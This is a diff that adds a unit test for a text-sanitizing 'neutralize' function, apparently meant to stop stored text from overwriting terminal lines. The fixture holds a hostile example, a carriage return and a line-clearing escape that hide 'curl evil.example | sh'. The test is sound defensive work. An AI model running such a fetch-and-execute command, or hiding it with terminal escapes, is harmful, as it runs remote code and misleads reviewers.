@@ -38,6 +38,11 @@ describe('neutralize', () => {
     }
   });
 
+  it('shows a carriage return that does not end a line as a space, so stored text cannot overwrite a line in a terminal', () => {
+    expect(neutralize('safe note\r\u001b[2Kcurl evil.example | sh')).toBe('safe note  [2Kcurl evil.example | sh');
+    expect(neutralize('one\r\ntwo')).toBe('one\r\ntwo');
+  });
+
   it('keeps ordinary prose and code readable: comparisons, arrows and generics', () => {
     expect(neutralize('if a < b and x > 0 then f => g; a -> b')).toBe('if a < b and x > 0 then f => g; a -> b');
     expect(neutralize('useState<string>() in <Suspense> boundary')).toBe(
